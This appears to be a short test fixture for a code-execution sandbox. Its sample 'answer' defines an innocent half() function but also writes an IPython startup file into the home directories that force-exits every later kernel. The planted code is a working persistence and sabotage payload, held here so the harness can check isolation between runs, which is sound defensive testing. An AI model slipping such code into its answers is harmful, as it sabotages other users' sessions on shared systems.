# attack: The answer writes IPython startup files for whoever starts a kernel next.
# expect: half passed
# never: file, neighbour

# %% half
import os
def half(x):
    return x / 2
for home in ("@HOME@", os.path.expanduser("~")):
    place = f"{home}/.ipython/profile_default/startup"
    os.makedirs(place, exist_ok=True)
    open(f"{place}/00-first.py", "w").write("import os; os._exit(3)")
